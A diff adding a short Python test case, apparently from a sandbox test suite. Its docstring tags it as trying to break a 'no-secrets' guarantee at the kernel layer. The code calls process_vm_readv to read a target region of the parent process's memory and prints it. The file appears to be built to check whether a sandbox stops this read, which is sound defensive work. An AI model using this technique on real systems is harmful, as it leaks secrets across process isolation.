@@ -1,0 +1,14 @@
+"""Read the memory of the parent, whatever it is.
+
+guarantee: no-secrets
+layer: kernel
+wins: reveals
+"""
+
+import struct
+
+text = ctypes.create_string_buffer(TARGET["length"])
+local = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(text), TARGET["length"]))
+remote = ctypes.create_string_buffer(struct.pack("QQ", TARGET["address"], TARGET["length"]))
+call("process_vm_readv", os.getppid(), local, 1, remote, 1, 0)
+print(text.raw.decode())
